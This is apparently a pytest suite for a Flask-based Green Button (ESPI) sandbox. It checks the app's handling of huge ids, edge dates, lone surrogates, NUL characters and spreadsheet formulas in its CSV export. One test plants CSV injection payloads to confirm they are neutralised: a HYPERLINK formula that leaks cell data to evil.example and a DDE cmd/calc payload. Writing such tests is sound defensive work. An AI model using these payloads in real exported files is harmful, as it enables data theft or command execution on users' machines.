"""Well-formed extremes through the Flask test client (issue 21, item 9): ids of 2**63 and beyond in
every `<int:...>` route, the calendar's edge dates in every date query parameter and form field, lone
surrogates and NUL characters in JSON bodies, forms, query strings and paths, and the Download My Data
CSV (an imported usage point's, written to its end; formula-like text cells neutralised). Each answer
is a 4xx naming the field or a correct answer, never a 5xx, and nothing is stored. The app runs with
TESTING on, so an unhandled error (one in a streamed body too) reaches the test as an exception."""

from __future__ import annotations

import base64
import csv
import datetime as dt
import io
import re

import pytest
from conftest import ADMIN_KEY
from espi.checks import ATOM, parse
from sqlalchemy import func, select, update
from web.helpers import app_count, csrf, sb_of, text, token_from
from web.oauth_steps import BASIC, sign_in
from werkzeug.exceptions import HTTPException

from sandbox.core.models import Authorization, Customer, Developer, ImportedReading, ImportedStream, UsagePoint
from sandbox.services import dmd

A = {"Authorization": f"Bearer {ADMIN_KEY}"}
EDGES = ("0001-01-01T00:00:00Z", "9999-12-31T23:59:59Z")
DAYS = ("0001-01-01", "9999-12-31")
SCOPE = "FB=1_3_4_5_13_14_32_39;IntervalDuration=3600;BlockDuration=daily;HistoryLength=34128000"
TIME_PARAMS = ("published-min", "published-max", "updated-min", "updated-max")
WIDEST = {"published-min": EDGES[0], "published-max": EDGES[1], "updated-min": EDGES[0], "updated-max": EDGES[1]}
INT_PART = re.compile(r"<int(?:\([^)]*\))?:(\w+)>")
token = token_from("/dc/bayview/")


def everyone(client) -> None:
    """Sign the client in as the demo customer, as staff and as a new developer (each role's pages run)."""
    sign_in(client)
    r = client.post(
        "/dc/bayview/admin/login",
        data={"csrf_token": token(client, "/dc/bayview/admin/"), "username": "staff", "password": "staff"},
    )
    assert r.status_code == 303
    r = client.post(
        "/dc/bayview/developer/signup",
        data={
            "csrf_token": token(client, "/dc/bayview/developer/"),
            "name": "Ann",
            "email": "ann@example.com",
            "password": "correct horse",
        },
    )
    assert r.status_code == 303


def local(uri: str) -> str:
    return uri.split("localhost", 1)[1]


def authorized(client, slug: str = "bayview", customer: str = "demo") -> dict:
    r = client.post(
        "/sandbox-api/authorizations",
        headers=A,
        json={"utility": slug, "customer": customer, "client_id": "demo-third-party", "scope": SCOPE},
    )
    assert r.status_code == 200, r.get_json()
    return r.get_json()


def bearer(value: str) -> dict:
    return {"Authorization": f"Bearer {value}"}


# --- ids beyond a 64-bit integer ----------------------------------------------------------------


def int_routes(app) -> list[tuple[str, str]]:
    """(rule, method) of every route with an `<int:...>` part."""
    return [
        (rule.rule, method)
        for rule in app.url_map.iter_rules()
        if INT_PART.search(rule.rule)
        for method in sorted(rule.methods - {"HEAD", "OPTIONS"})
    ]


@pytest.mark.parametrize("big", [2**63, 2**64, 10**30])
def test_every_int_route_answers_404_to_an_id_beyond_int64(app, client, big):
    everyone(client)
    routes = int_routes(app)
    assert len(routes) >= 15  # the portal's, the staff view's and the developer portal's
    page = text(client.get("/dc/bayview/developer/"))
    for rule, method in routes:
        path = INT_PART.sub(lambda m: str(big), rule).replace("<slug>", "bayview")
        path = re.sub(r"<any\(([^,)]+)[^>]*>", lambda m: m.group(1), path)
        r = client.open(path, method=method, data={"csrf_token": csrf(page)} if method == "POST" else None)
        assert r.status_code == 404, (method, path, r.status_code)


def test_an_id_of_18_digits_still_reaches_its_view(app, client):
    everyone(client)
    r = client.get("/dc/bayview/admin/customers/999999999999999999")  # routed: the view looks it up
    assert r.status_code == 404 and "customer" in text(r).lower()


# --- the calendar's edges in the ESPI query parameters -----------------------------------------------


def espi_targets(app, client) -> list[tuple[str, dict]]:
    """One URL of every ESPI resource route a customer token, the third party's client token or the
    data custodian's reaches (from the subscription's feed and the collections), with a token it answers."""
    t = authorized(client)
    customer = bearer(t["access_token"])
    feed = text(client.get(local(t["resourceURI"]), headers=customer))
    root = "/dc/bayview/espi/1_1/resource/"
    hrefs = set(re.findall(r'href="http://localhost([^"]+)"', feed)) | {
        local(t["resourceURI"]),
        local(t["authorizationURI"]),
    }
    hrefs |= {local(t["resourceURI"]) + "/UsagePoint"} | {
        local(t["resourceURI"]) + "/UsagePoint/" + up for up in re.findall(r"/UsagePoint/([0-9a-f-]{36})", feed)
    }
    hrefs |= {
        root + n
        for n in (
            "Authorization",
            "ApplicationInformation",
            "UsagePoint",
            "MeterReading",
            "IntervalBlock",
            "ReadingType",
            "LocalTimeParameters",
            "ReadServiceStatus",
        )
    }
    clients = [
        bearer(
            client.post(
                "/dc/bayview/oauth/token", data={"grant_type": "client_credentials"}, headers={"Authorization": basic}
            ).get_json()["access_token"]
        )
        for basic in (BASIC, "Basic " + base64.b64encode(b"data-custodian:data-custodian-secret").decode())
    ]
    adapter = app.url_map.bind("localhost")
    by_route: dict[str, tuple[str, dict]] = {}
    for h in sorted(hrefs):
        try:
            endpoint = adapter.match(h)[0]
        except HTTPException:  # a link to a document the sandbox does not serve
            continue
        answered = (
            []
            if endpoint in by_route
            else [headers for headers in (customer, *clients) if _status(client.get(h, headers=headers)) == 200]
        )
        if answered:
            by_route[endpoint] = (h, answered[0])
    assert len(by_route) >= 20, sorted(by_route)
    return list(by_route.values())


def _status(r) -> int:
    r.get_data()  # a streamed body is read before the next request (it holds the request's context)
    return r.status_code


def _answer(r) -> tuple[int, list[str] | str]:
    """A status and what it holds: the entry ids of a document, the refusal's reason otherwise."""
    body = r.get_data()  # written to its end (an error midway raises here)
    if r.status_code == 200 and body.startswith(b"<?xml"):
        root = parse(body)
        return 200, [e.findtext(f"{ATOM}id") for e in root.iter(f"{ATOM}entry")] or [root.tag]
    return r.status_code, r.headers.get("X-Sandbox-Reason", "")


# an ordinary time on the same side of all the data as each edge: the edge must answer just as it does
ORDINARY = {EDGES[0]: "1990-01-01T00:00:00Z", EDGES[1]: "2100-01-01T00:00:00Z"}


def test_edge_dates_in_every_espi_time_parameter_answer_as_ordinary_dates_do(app, client):
    for path, headers in espi_targets(app, client):
        for name in TIME_PARAMS:
            for edge in EDGES:
                edged = _answer(client.get(path, query_string={name: edge}, headers=headers))
                assert edged[0] < 500 and edged == _answer(
                    client.get(path, query_string={name: ORDINARY[edge]}, headers=headers)
                ), (path, name, edge)
        assert _answer(client.get(path, query_string=WIDEST, headers=headers))[0] == 200


def test_the_widest_window_is_the_whole_document(app, client):
    t = authorized(client)
    path, headers = local(t["resourceURI"]), bearer(t["access_token"])

    def ids(query) -> list[str]:
        return [
            e.findtext(f"{ATOM}id")
            for e in parse(client.get(path, query_string=query, headers=headers).data).iter(f"{ATOM}entry")
        ]

    whole = ids({})
    assert len(whole) > 100
    assert ids(WIDEST) == whole
    # a window before any data keeps only the structure (usage points, meter readings, reading types)
    early = ids({"published-max": EDGES[0]})
    assert 0 < len(early) < len(whole)


def test_a_picky_profile_names_the_parameter_it_refuses_at_the_edges(app, client):
    r = client.put(
        "/sandbox-api/utilities/bayview/third-parties/demo-third-party/profile",
        headers=A,
        json={"profile": "picky-dates"},
    )
    assert r.status_code == 200
    t = authorized(client)
    for name in ("published-min", "published-max"):
        for edge in EDGES:
            r = client.get(local(t["resourceURI"]), query_string={name: edge}, headers=bearer(t["access_token"]))
            assert r.status_code in (200, 400), (name, edge, r.status_code)
            if r.status_code == 400:
                assert name in r.get_json()["error_description"]
            r.get_data()


# --- the calendar's edges in forms and control-API bodies -------------------------------------------


@pytest.mark.parametrize("fmt", ["xml", "csv"])
@pytest.mark.parametrize(
    "start, end, named",
    [
        ("2025-01-01", "9999-12-31", "earlier end date"),
        ("0001-01-01", "2025-01-31", "later start date"),
        ("0001-01-01", "9999-12-31", "later start date"),
        ("9999-12-31", "9999-12-31", "end date comes before"),
        ("2025-01-01", "0001-01-01", "end date comes before"),
        ("0001-01-01T00:00:00Z", "2025-01-31", "start:"),
        ("2025-01-01", "9999-12-31T23:59:59Z", "end:"),
    ],
)
def test_download_my_data_refuses_edge_days_naming_the_field(client, fmt, start, end, named):
    sign_in(client)
    page = text(client.get("/dc/bayview/download"))
    up = re.search(r'name="usage_point" value="(\d+)"', page).group(1)
    r = client.post(
        "/dc/bayview/download",
        data={
            "csrf_token": csrf(page),
            "usage_point": up,
            "format": fmt,
            "period": "custom",
            "start": start,
            "end": end,
        },
    )
    assert r.status_code == 400 and named in text(r)


@pytest.mark.parametrize("day", DAYS)
def test_moving_refuses_edge_days_and_nobody_moves(app, client, day):
    sign_in(client)
    page = text(client.get("/dc/bayview/moving"))
    r = client.post("/dc/bayview/moving", data={"csrf_token": csrf(page), "moving_day": day, "confirm": "1"})
    assert r.status_code == 400 and "moving day" in text(r).lower()
    with sb_of(app).db.sessions() as s:
        assert (
            s.scalar(
                select(Customer.service_end).where(Customer.username == "demo", Customer.utility.has(slug="bayview"))
            )
            is None
        )


@pytest.mark.parametrize(
    "body, field",
    [
        ({"set": EDGES[0]}, "set"),
        ({"set": EDGES[1]}, "set"),
        ({"set": "0001-01-01T00:00:00+14:00"}, "set"),
        ({"set": "9999-12-31T23:59:59-12:00"}, "set"),
        ({"set": DAYS[0]}, "set"),
    ],
)
def test_the_clock_refuses_edge_instants_naming_the_field(client, clock, body, field):
    before = clock.now()
    r = client.post("/sandbox-api/clock", headers=A, json=body)
    assert r.status_code == 400 and r.get_json()["field"] == field
    assert clock.now() == before


def test_advancing_past_the_last_date_is_refused_not_overflowed(client, clock):
    assert client.post("/sandbox-api/clock", headers=A, json={"set": "8999-12-31T00:00:00Z"}).status_code == 200
    before = clock.now()
    for advance in ("P2500000D", 2.5e11 / 2):  # less than the clock's whole range, more than is left of it
        r = client.post("/sandbox-api/clock", headers=A, json={"advance": advance})
        assert r.status_code == 400 and r.get_json()["field"] == "advance", r.get_json()
    assert clock.now() == before


@pytest.mark.parametrize("day", DAYS)
def test_control_api_days_at_the_edges(app, client, day):
    r = client.post("/sandbox-api/utilities/bayview/customers/demo/move-out", headers=A, json={"date": day})
    assert r.status_code == 400 and r.get_json()["field"] == "date"
    # an outage on a day with no data changes nothing, and every reading still comes
    r = client.put("/sandbox-api/utilities/bayview/customers/demo/data-quality", headers=A, json={"outage_days": [day]})
    assert r.status_code == 200 and r.get_json()["outage_days"] == [day]
    t = authorized(client)
    r = client.get(
        local(t["resourceURI"]),
        query_string={"published-min": "2025-07-01T00:00:00Z"},
        headers=bearer(t["access_token"]),
    )
    assert r.status_code == 200 and r.data.rstrip().endswith(b"</feed>")


# --- lone surrogates and NUL characters --------------------------------------------------------------


def registration(**changes) -> dict:
    return {
        "client_name": "Grid Graph",
        "redirect_uris": ["https://gg.example.com/oauth/cb"],
        "contacts": ["ops@gg.example.com"],
        **changes,
    }


@pytest.mark.parametrize(
    "changes, field",
    [
        ({"client_name": "Grid \ud800 Graph"}, "client_name"),
        ({"client_name": "Grid \x00 Graph"}, "client_name"),
        ({"redirect_uris": ["https://gg.example.com/\udfff"]}, "redirect_uris.0"),
        ({"\ud83d": 1}, "\\ud83d"),
    ],
)
def test_registration_refuses_unstorable_text_naming_the_member(app, client, changes, field):
    before = app_count(app)
    # the test client writes JSON with ASCII escapes (\ud800, \u0000), as any client may
    r = client.post(
        "/dc/bayview/espi/1_1/register", json=registration(**changes), headers={"Accept": "application/json"}
    )
    assert r.status_code == 400, text(r)[:300]
    assert r.get_json()["error_description"].startswith(f"{field}:")
    assert app_count(app) == before
    ok = client.post("/dc/bayview/espi/1_1/register", json=registration(), headers={"Accept": "application/json"})
    assert ok.status_code == 201 and app_count(app) == before + 1


@pytest.mark.parametrize(
    "body, field",
    [
        ({"customer": "de\ud800mo"}, "customer"),
        ({"customer": "de\x00mo"}, "customer"),
        ({"usage_points": ["\x00"]}, "usage_points.0"),
    ],
)
def test_control_api_refuses_unstorable_text_naming_the_field(app, client, body, field):
    before = _authorizations(app)
    r = client.post(
        "/sandbox-api/authorizations",
        headers=A,
        json={"utility": "bayview", "customer": "demo", "client_id": "demo-third-party", "scope": SCOPE, **body},
    )
    assert r.status_code == 400 and r.get_json()["field"] == field, r.get_json()
    assert r.get_json()["error"] == "invalid_request"
    assert _authorizations(app) == before


def _authorizations(app) -> int:
    with sb_of(app).db.sessions() as s:
        return s.scalar(select(func.count(Authorization.id)))


def test_a_nul_in_a_query_string_form_or_path_is_refused_naming_it(app, client):
    r = client.get("/sandbox-api/requests?client_id=a%00b", headers=A)
    assert r.status_code == 400 and r.get_json()["field"] == "client_id"
    r = client.get("/sandbox-api/utilities/bayview/customers/de%00mo/data-quality", headers=A)
    assert r.status_code == 400 and r.get_json()["field"] == "username"
    r = client.post(
        "/dc/bayview/oauth/token",
        data={"grant_type": "client_credentials", "client_id": "demo-third-party\x00", "client_secret": "x"},
    )
    assert r.status_code == 400 and r.get_json() == {
        "error": "invalid_request",
        "field": "client_id",
        "error_description": "client_id: holds a NUL character; the sandbox stores no such text.",
    }
    before = _developers(app)
    r = client.post(
        "/dc/bayview/developer/signup",
        data={
            "csrf_token": token(client, "/dc/bayview/developer/"),
            "name": "Ann",
            "email": "ann@exa\x00mple.com",
            "password": "correct horse",
        },
        headers={"Accept": "text/html"},
    )
    assert r.status_code == 400 and r.mimetype == "text/html" and "email: holds a NUL character" in text(r)
    assert _developers(app) == before


def test_a_nul_in_client_credentials_is_refused(client):
    for user in (b"demo-third-party\x00", b"demo-third-party%00"):
        basic = "Basic " + base64.b64encode(user + b":demo-secret").decode()
        r = client.post(
            "/dc/bayview/oauth/token", data={"grant_type": "client_credentials"}, headers={"Authorization": basic}
        )
        assert r.status_code == 400 and r.get_json()["field"] == "Authorization"
    r = client.get("/dc/bayview/espi/1_1/resource/ReadServiceStatus", headers=bearer("a\x00b"))
    assert r.status_code == 400 and "Authorization" in r.get_json()["error_description"]


def _developers(app) -> int:
    with sb_of(app).db.sessions() as s:
        return s.scalar(select(func.count(Developer.id)))


# --- the Download My Data CSV ----------------------------------------------------------------------


def _import_for(app, customer_number: int = 1) -> Customer:
    """The demo customer's data of June 2025, imported as another customer's (its usage points' ids)."""
    sb = sb_of(app)
    with sb.db.sessions() as s:
        demo = s.scalars(select(Customer).where(Customer.number == 0, Customer.utility.has(slug="bayview"))).one()
        target = s.scalars(
            select(Customer).where(Customer.number == customer_number, Customer.utility.has(slug="bayview"))
        ).one()
        data = b"".join(
            dmd.usage_document(sb, demo.id, None, dt.date(2025, 6, 1), dt.date(2025, 7, 1), True, "http://x.test")
        )
        dmd.import_green_button(sb, target, data)
        return target


def _csv(client, page: str, ups: list[str], start="2025-06-01", end="2025-06-30", cost="1") -> list[list[str]]:
    r = client.post(
        "/dc/bayview/download",
        data={
            "csrf_token": csrf(page),
            "usage_point": ups,
            "format": "csv",
            "period": "custom",
            "start": start,
            "end": end,
            "cost": cost,
        },
    )
    assert r.status_code == 200 and r.mimetype == "text/csv"
    body = r.get_data(as_text=True)  # streamed to its end (an error midway raises here)
    assert body.endswith("\r\n")
    return list(csv.reader(io.StringIO(body)))


def test_the_csv_of_an_imported_usage_point_is_written_to_its_end(app, client):
    target = _import_for(app)
    with sb_of(app).db.sessions() as s:
        imported = s.scalars(
            select(UsagePoint).where(UsagePoint.customer_id == target.id, UsagePoint.source_uuid.is_not(None))
        ).all()
        stored = s.scalar(
            select(func.count(ImportedReading.id))
            .join(ImportedStream)
            .where(ImportedStream.usage_point_id.in_([u.id for u in imported]))
        )
    assert imported and stored > 700
    sign_in(client, username=target.username, password="password")
    rows = _csv(client, text(client.get("/dc/bayview/download")), [str(u.id) for u in imported])
    assert rows[0][0] == "usage_point" and len(rows) - 1 == stored
    assert all(len(row) == len(dmd.CSV_HEADER) for row in rows)
    assert rows[-1][4].startswith("2025-06-30")  # the last day's readings are there


def test_csv_text_cells_that_look_like_formulas_are_neutralised_and_numbers_stay_numbers(app, client):
    target = _import_for(app)
    evil = {"label": '=HYPERLINK("http://evil.example/?"&A1,"x")', "stream": "+cmd|' /C calc'!A0", "meter": "@SUM(1)"}
    with sb_of(app).db.transaction() as s:
        imported = s.scalars(
            select(UsagePoint.id).where(UsagePoint.customer_id == target.id, UsagePoint.source_uuid.is_not(None))
        ).all()
        up_id = imported[0]
        s.execute(
            update(UsagePoint).where(UsagePoint.id == up_id).values(label=evil["label"], meter_serial=evil["meter"])
        )
        s.execute(update(ImportedStream).where(ImportedStream.usage_point_id == up_id).values(title=evil["stream"]))
    # negative readings (a mis-wired meter) on the customer's own generated usage point
    r = client.put(
        f"/sandbox-api/utilities/bayview/customers/{target.username}/data-quality",
        headers=A,
        json={"negative_share": 0.5},
    )
    assert r.status_code == 200
    sign_in(client, username=target.username, password="password")
    page = text(client.get("/dc/bayview/download"))
    generated = [u for u in re.findall(r'name="usage_point" value="(\d+)"', page) if int(u) not in imported]
    rows = _csv(client, page, [str(up_id), generated[0]], end="2025-06-02")
    mine = [row for row in rows[1:] if row[1] == "'" + evil["meter"]]
    assert mine and all(row[0] == "'" + evil["label"] and row[2] == "'" + evil["stream"] for row in mine)
    quantities = [float(row[7]) for row in rows[1:]]  # every quantity is a number, no quote
    assert any(q < 0 for q in quantities) and not any(row[7].startswith("'") for row in rows[1:])
    assert [float(row[9]) for row in rows[1:] if row[9]]  # costs are numbers too


@pytest.mark.parametrize(
    "value, shown",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("Home", "Home"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_text_cell(value, shown):
    assert dmd.text_cell(value) == shown
